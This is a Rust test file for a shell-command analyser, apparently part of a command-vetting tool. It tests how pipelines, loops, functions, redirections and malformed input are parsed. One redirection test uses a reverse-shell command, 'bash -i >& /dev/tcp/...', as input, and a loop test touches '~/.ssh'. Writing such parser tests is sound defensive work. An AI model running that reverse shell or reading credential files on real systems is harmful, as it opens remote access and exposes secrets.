//! Lists, pipelines, compound commands, redirections and places.

use proctor_shell::analyse;

use crate::check;

/// Pipeline, stage and background of each command, by its words.
fn places(text: &str) -> Vec<String> {
    let analysis = analyse(text);
    // Numbers of pipelines only say what belongs together.
    let mut seen = Vec::new();
    let place = |command: &proctor_shell::Command| {
        if !seen.contains(&command.pipeline) {
            seen.push(command.pipeline);
        }
        let number = seen.iter().position(|p| *p == command.pipeline).unwrap();
        let background = if command.background { "&" } else { "" };
        format!(
            "{number}.{} {}{background}",
            command.stage,
            command.argv.join(" ")
        )
    };
    analysis.commands.iter().map(place).collect()
}

#[test]
fn pipelines_are_numbered() {
    assert_eq!(
        places("a | b && c || d |& e; f &\ng"),
        [
            "0.0 a", "0.1 b", "1.0 c", "2.0 d", "2.1 e", "3.0 f&", "4.0 g"
        ]
    );
}

#[test]
fn what_is_inside_a_stage_is_part_of_the_pipeline() {
    assert_eq!(
        places("(a || b) | sudo c | while read x; do d; done | e"),
        [
            "0.0 a",
            "0.0 b",
            "0.1 sudo c",
            "0.1 c",
            "0.2 read x",
            "0.2 d",
            "0.3 e"
        ]
    );
    assert_eq!(
        places("a | bash -c 'b | c' | d"),
        ["0.0 a", "0.1 bash -c b | c", "0.1 b", "0.2 c", "0.3 d"]
    );
    // Without other stages each command stands for itself.
    assert_eq!(places("{ a; b; }"), ["0.0 a", "1.0 b"]);
    assert_eq!(places("sh -c 'a; b'"), ["0.0 sh -c a; b", "1.0 a", "2.0 b"]);
    assert_eq!(
        places("a | b $(c | d)"),
        ["0.0 a", "0.1 b $(c | d)", "1.0 c", "1.1 d"]
    );
}

#[test]
fn background_reaches_inside() {
    assert_eq!(
        places("sudo a & nohup b; (c; d) &"),
        [
            "0.0 sudo a&",
            "0.0 a&",
            "1.0 nohup b",
            "1.0 b&",
            "2.0 c&",
            "3.0 d&"
        ]
    );
}

#[test]
fn compound_commands_are_opened() {
    check(
        "if a; then b; elif c; then d; else e; fi; f",
        &["a", "b", "c", "d", "e", "f"],
    );
    check(
        "while a | b; do c; done && until d; do e; done",
        &["a", "b", "c", "d", "e"],
    );
    check(
        "case $(a) in b|c) d;; (e) f;& *) g; h;; esac; i",
        &["$()> a", "d", "f", "g", "h", "i"],
    );
    check("{ a; { b; }; } && ( (c) ; d )", &["a", "b", "c", "d"]);
    check(
        "for ((i=0; i<3; i++)); do a; done; select x in b; do c; done",
        &["a", "c"],
    );
    check("! a; time { b; }; coproc C { d; }", &["a", "b", "d"]);
    check(
        "if { a; } then b; fi; while (c) do d; done",
        &["a", "b", "c", "d"],
    );
    check(
        "[[ -f a && $b =~ ^(c|d)$ ]] && e",
        &["[[ -f a && $b =~ ^(c|d)$ ]]", "e"],
    );
    check(
        "if [ -f a ]\nthen\n\tb\nfi\n\nfor x in c d\ndo\n\te $x\ndone",
        &["[ -f a ]", "b", "e c", "e d"],
    );
}

#[test]
fn loops_are_followed_value_by_value() {
    check(
        "for f in a 'b c'; do d $f \"$f\"; done",
        &["d a a", "d b c \"b c\""],
    );
    check("for f in $(ls); do d $f; done", &["$()> ls", "d $f"]);
    check("for f in *.c; do d $f; done", &["d *.c"]);
    // One number is as good as another, one name is not, and one that leads to a file is followed.
    for (values, followed, truncated) in [
        ("{1..17}", 16, false),
        ("{a..q}", 16, true),
        ("{1..16} ~/.ssh", 17, false),
    ] {
        let analysis = analyse(&format!("for i in {values}; do a $i; done"));
        assert_eq!(analysis.commands.len(), followed, "{values}");
        assert_eq!(analysis.truncated, truncated, "{values}");
    }
}

#[test]
fn functions_are_opened_where_they_are_called() {
    check("f() { a $1 \"$@\"; }; f b c", &["f b c", "f()> a b b c"]);
    check(
        "function f { a; }; sudo b; f",
        &["sudo b", "!sudo> b", "f", "f()> a"],
    );
    // A later command line may call what this one does not.
    check("f() { a; }; b", &["b", "f()> a"]);
    check(
        "f() { f; }; f",
        &[
            "f",
            "f()> f",
            "f()> f()> f",
            "f()> f()> f()> f",
            "f()> f()> f()> f()> f",
            "f()> f()> f()> f()> f()> f",
            "f()> f()> f()> f()> f()> f()> f",
            "f()> f()> f()> f()> f()> f()> f()> f",
            "f()> f()> f()> f()> f()> f()> f()> f()> f",
        ],
    );
    check(
        "alias l='ls -l'; l x",
        &["alias \"l=ls -l\"", "l x", "l()> ls -l x"],
    );
}

#[test]
fn redirections() {
    let show = |text: &str| {
        let commands = analyse(text).commands;
        let show = |c: &proctor_shell::Command| {
            let redirects: Vec<String> = c
                .redirects
                .iter()
                .map(|r| format!("{} {}", r.op, r.target))
                .collect();
            format!("{}: {}", c.argv.join(" "), redirects.join(", "))
        };
        commands.iter().map(show).collect::<Vec<_>>()
    };
    assert_eq!(
        show(">a b 2>>c 3<&- d &>'e f' <$g"),
        ["b d: > a, 2>> c, 3<& -, &> e f, < $g"]
    );
    assert_eq!(show("a && b > c"), ["a: ", "b: > c"]);
    assert_eq!(
        show("{ a; b >c; } >d 2>&1"),
        ["a: > d, 2>& 1", "b: > c, > d, 2>& 1"]
    );
    assert_eq!(show("> a"), [": > a"]);
    assert_eq!(show("sudo a > b"), ["sudo a: > b", "a: > b"]);
    assert_eq!(
        show("bash -i >& /dev/tcp/192.0.2.1/44 0>&1"),
        ["bash -i: >& /dev/tcp/192.0.2.1/44, 0>& 1"]
    );
    assert_eq!(
        show("exec 3<>/dev/tcp/a/1 {fd}>b"),
        ["exec: 3<> /dev/tcp/a/1, {fd}> b"]
    );
}

#[test]
fn what_reaches_standard_input() {
    let stdin = |text: &str| analyse(text).commands.last().unwrap().stdin.clone();
    assert_eq!(stdin("a <<< 'b c'").as_deref(), Some("b c\n"));
    assert_eq!(
        stdin("x=1; a <<E\n$x $y\n\\$z\nE\n").as_deref(),
        Some("1 $y\n$z\n")
    );
    assert_eq!(stdin("a <<'E'\n$x\nE\n").as_deref(), Some("$x\n"));
    assert_eq!(stdin("a <<-E\n\tb\n\tE\n").as_deref(), Some("b\n"));
    assert_eq!(stdin("echo a b | c").as_deref(), Some("a b\n"));
    assert_eq!(
        stdin("printf '%s\\n' a b | tee f | c").as_deref(),
        Some("a\nb\n")
    );
    assert_eq!(stdin("(ls; echo a) | c").as_deref(), Some("a\n"));
    assert_eq!(stdin("echo a > f; b < f").as_deref(), Some("a\n"));
    assert_eq!(stdin("ls | c"), None);
    check("cat <<A <<B | x; y\na\nA\nb\nB\nz", &["cat", "x", "y", "z"]);
}

#[test]
fn spans_point_into_the_outermost_text() {
    let spans = |text: &str| {
        let commands = analyse(text).commands;
        let part = |c: &proctor_shell::Command| text.get(c.span.clone()).unwrap().to_owned();
        commands.iter().map(part).collect::<Vec<_>>()
    };
    assert_eq!(spans("é; a b >c | d"), ["é", "a b >c", "d"]);
    assert_eq!(
        spans("a \"x$(b $(c d))\""),
        ["a \"x$(b $(c d))\"", "b $(c d)", "c d"]
    );
    assert_eq!(
        spans("a; sh -c 'b; c'"),
        ["a", "sh -c 'b; c'", "sh -c 'b; c'", "sh -c 'b; c'"]
    );
    assert_eq!(spans("f() { a; }; f"), ["f", "a"]);
    assert_eq!(spans("for i in 1 2; do a $i; done"), ["a $i", "a $i"]);
    assert_eq!(spans("cat <<E\n$(a b)\nE"), ["cat <<E", "a b"]);
}

#[test]
fn carriers_come_before_what_they_carry() {
    let carriers = |text: &str| {
        let commands = analyse(text).commands;
        commands.iter().map(|c| c.carrier).collect::<Vec<_>>()
    };
    assert_eq!(
        carriers("a; sudo sh -c 'b $(c)'"),
        [None, None, Some(1), Some(2), Some(3)]
    );
}

#[test]
fn assignments() {
    let analysis = analyse("A=1 B='x y' cmd; C=2; env D=3 e; sudo F=4 g");
    let show = |c: &proctor_shell::Command| (c.program().to_owned(), c.assignments.clone());
    let found: Vec<_> = analysis.commands.iter().map(show).collect();
    let pair = |name: &str, value: &str| (name.to_owned(), value.to_owned());
    assert_eq!(
        found[0],
        ("cmd".to_owned(), vec![pair("A", "1"), pair("B", "x y")])
    );
    assert_eq!(found[1], (String::new(), vec![pair("C", "2")]));
    assert_eq!(found[3], ("e".to_owned(), vec![pair("D", "3")]));
    assert_eq!(found[5], ("g".to_owned(), vec![pair("F", "4")]));
}

#[test]
fn what_is_not_valid_is_read_as_far_as_it_goes() {
    let malformed = |text: &str, commands: &[&str]| {
        assert!(analyse(text).malformed, "{text}");
        check(text, commands);
    };
    malformed("if a; b", &["a", "b"]);
    malformed("a; done; b", &["a", "b"]);
    malformed("a 'b", &["a 'b"]);
    malformed("a \"b $(c", &["a \"b $", "c"]);
    malformed("a | | b", &["a", "b"]);
    malformed("a &&", &["a"]);
    malformed("( a; b", &["a", "b"]);
    malformed("a ) b", &["a", "b"]);
    malformed("for x in; a; fi", &["x", "a"]);
    // A redirection from `Enter`, and one that lacks its target.
    malformed("<Enter>", &[""]);
    malformed("case a in b) c", &["c"]);
    // Placeholders are what bash takes them for: here a file to read and one to write.
    check("git clone {{url}} <directory> out", &["git clone {{url}}"]);
}

#[test]
fn nothing_is_nothing() {
    for text in ["", " ", "\n\n", "# only a comment", ";"] {
        assert_eq!(analyse(text).commands, [], "{text:?}");
    }
}
